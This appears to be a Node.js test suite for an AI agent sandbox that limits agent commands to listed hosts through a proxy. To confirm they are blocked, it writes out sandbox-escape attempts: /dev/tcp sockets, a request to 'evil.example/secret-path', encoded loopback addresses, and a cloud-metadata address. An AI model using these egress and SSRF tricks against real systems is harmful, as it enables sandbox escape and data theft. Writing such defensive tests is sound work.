// A command's way out: the hosts that the configuration lists, through the server's proxy, and
// nothing else.

import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { request } from './lib/http.mjs';
import { rehearse, runCommand, say, tool } from './lib/rehearsal.mjs';
import { Server, temporaryFolder } from './lib/server.mjs';
import { Workspace } from './lib/workspace.mjs';

/// A web server on this machine that says what it was asked.
async function startOrigin() {
  const asked = [];
  const origin = http.createServer((incoming, answer) => {
    let body = '';
    incoming.on('data', (chunk) => (body += chunk));
    incoming.on('end', () => {
      asked.push({ method: incoming.method, url: incoming.url, headers: incoming.headers, body });
      answer.end(`you asked for ${incoming.url}\n`);
    });
  });
  await new Promise((resolve) => origin.listen(0, '127.0.0.1', resolve));
  return { origin, asked, port: origin.address().port };
}

let server;
let listed;
let unlisted;
let workspace;
before(async () => {
  listed = await startOrigin();
  unlisted = await startOrigin();
  const folder = temporaryFolder();
  const hosts = [
    `127.0.0.1:${listed.port}`,
    `localhost:${listed.port}`,
    `localhost:${unlisted.port}`,
  ];
  writeFileSync(
    path.join(folder, 'coditect.toml'),
    `[commands]\nnetwork = ${JSON.stringify(hosts)}\n`,
  );
  server = await Server.start(undefined, { folder });
  workspace = await Workspace.provision(server);
});
after(async () => {
  await server?.stop();
  for (const each of [listed, unlisted]) await new Promise((done) => each.origin.close(done));
});

/// The finished tool calls of a task that runs `commands`, one after the other.
async function play(where, ...steps) {
  const task = await where.run('claude', rehearse(...steps, say('done')));
  const events = await where.events();
  return events
    .filter(({ type, data }) => type === 'tool_call' && data.phase === 'finished')
    .filter((event) => event.task === task.id)
    .map(({ data }) => data);
}
const run = async (...commands) => play(workspace, ...commands.map((each) => runCommand(each)));

test('the health check says what is in force', async () => {
  const { json } = await request(server, 'GET', '/health');
  assert.match(json.sandbox, /; network through the proxy only, to 127\.0\.0\.1:\d+, localhost:/);
  const without = await Server.start(undefined);
  const plain = await request(without, 'GET', '/health');
  await without.stop();
  assert.match(plain.json.sandbox, /; no network$/);
});

test('programs reach a listed host by themselves, and the log names it once', async () => {
  const url = `http://127.0.0.1:${listed.port}/packages?token=hidden`;
  // The variables say that this machine's own names need no proxy, which is not meant here.
  const get = `NO_PROXY= no_proxy= python3 -c "import urllib.request as r; print(r.urlopen('${url}').read().decode())"`;
  const [call] = await run(`${get}; ${get}`);
  assert.equal(call.ok, true, call.output);
  assert.match(call.output, /you asked for \/packages\?token=hidden/);
  assert.deepEqual(call.network, [{ host: '127.0.0.1', port: listed.port, allowed: true }]);
  assert.match(call.output, new RegExp(`\\[network: let out to 127.0.0.1:${listed.port}\\]`));
  const { headers } = listed.asked.at(-1);
  assert.equal(headers.host, `127.0.0.1:${listed.port}`);
  assert.equal(headers['proxy-connection'], undefined);
});

test('a body of any form reaches it whole', async () => {
  const url = `http://127.0.0.1:${listed.port}/upload`;
  const program = [
    'import http.client',
    `for body in ("x" * 300000, iter([b"one ", b"two ", b"three"])):`,
    '  c = http.client.HTTPConnection("127.0.0.1", 3128)',
    `  c.request("POST", "${url}", body=body, encode_chunked=not isinstance(body, str), headers={} if isinstance(body, str) else {"Transfer-Encoding": "chunked"})`,
    '  print(c.getresponse().read().decode())',
  ].join('\n');
  const [call] = await run(`cat > up.py <<'END'\n${program}\nEND\npython3 up.py`);
  assert.equal(call.ok, true, call.output);
  assert.deepEqual(
    listed.asked.slice(-2).map(({ body }) => body.length),
    [300000, 13],
  );
});

test('what was refused is said, with what to do', async () => {
  const before_ = unlisted.asked.length;
  const [call] = await run(
    `NO_PROXY= no_proxy= python3 -c "import urllib.request as r; r.urlopen('http://evil.example/secret-path?q=1')"`,
  );
  assert.equal(call.ok, false);
  assert.match(call.output, /HTTP Error 403/);
  assert.match(
    call.output,
    /\[network: refused: evil\.example:80 \(not on the list [\w ]+\); commands reach only/,
  );
  assert.deepEqual(call.network, [
    {
      host: 'evil.example',
      port: 80,
      allowed: false,
      why: 'not on the list of hosts for commands',
    },
  ]);
  assert.doesNotMatch(call.output.slice(call.output.indexOf('[network')), /secret-path/);
  assert.equal(unlisted.asked.length, before_);
});

test('there is no other way out', async () => {
  const api = new URL(server.url).port;
  const tunnel = (to) =>
    `exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT ${to} HTTP/1.1\\r\\n\\r\\n' >&3 && head -1 <&3 | grep ' 200 '`;
  const attempts = [
    tunnel(`127.0.0.1:${unlisted.port}`), // a port that is not listed
    tunnel(`localhost:${unlisted.port}`), // listed by name, but it leads to this machine
    tunnel(`127.0.0.1:${api}`), // the server itself
    tunnel(`[::1]:${api}`),
    tunnel(`[::ffff:127.0.0.1]:${unlisted.port}`),
    tunnel(`0.0.0.0:${listed.port}`),
    tunnel(`2130706433:${listed.port}`),
    tunnel(`017700000001:${listed.port}`),
    tunnel(`0x7f000001:${listed.port}`),
    tunnel(`127.1:${listed.port}`),
    tunnel(`127.0.0.1:${listed.port}@evil.example:80`),
    tunnel('169.254.169.254:80'),
    // not through the proxy
    `exec 3<>/dev/tcp/127.0.0.1/${listed.port}`,
    `exec 3<>/dev/tcp/127.0.0.1/${api}`,
    'exec 3<>/dev/tcp/1.1.1.1/443',
    'exec 3<>/dev/udp/1.1.1.1/53 && echo x >&3',
  ];
  const before_ = [listed.asked.length, unlisted.asked.length];
  const calls = await run(...attempts);
  assert.equal(calls.length, attempts.length);
  for (const [index, call] of calls.entries()) {
    assert.equal(call.ok, false, `${attempts[index]}: ${call.output}`);
  }
  assert.deepEqual([listed.asked.length, unlisted.asked.length], before_);
  const health = await request(server, 'GET', '/health');
  assert.equal(health.json.status, 'ok', health.text);
});

test('git gets no network, and so no hook of a repository does', async () => {
  const [, committed] = await play(
    workspace,
    runCommand(
      [
        'git init -q . && mkdir -p .git/hooks',
        `printf '#!/bin/sh\\nenv > hook-env.txt\\n' > .git/hooks/pre-commit`,
        'chmod +x .git/hooks/pre-commit; echo x > x.txt; git add x.txt',
      ].join('\n'),
    ),
    tool('git', { args: ['commit', '-m', 'x'] }),
  );
  assert.equal(committed.ok, true, committed.output);
  assert.doesNotMatch(await workspace.text('hook-env.txt'), /proxy/i);
});

test('a terminal has the same way out', async () => {
  const socket = await workspace.open();
  await socket.attach();
  const id = (
    await socket.call('terminal.open', {
      command: `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT 127.0.0.1:${listed.port} HTTP/1.1\\r\\n\\r\\n' >&3; head -1 <&3; env | grep -c _proxy`,
    })
  ).id;
  const exit = await socket.waitFor(
    () =>
      socket.notifications.find(
        ({ method, params }) => method === 'terminal.exit' && params.id === id,
      ),
    'the end of the terminal',
  );
  assert.deepEqual(exit.params.network, [{ host: '127.0.0.1', port: listed.port, allowed: true }]);
  await socket.cut();
});

test('a list that is none is refused at the start, with its line', async () => {
  const folder = temporaryFolder();
  writeFileSync(path.join(folder, 'coditect.toml'), '[commands]\nnetwork = ["*"]\n');
  const broken = new Server(folder, {});
  await assert.rejects(broken.start(), /coditect\.toml:2: '\*' is not a host/);
});
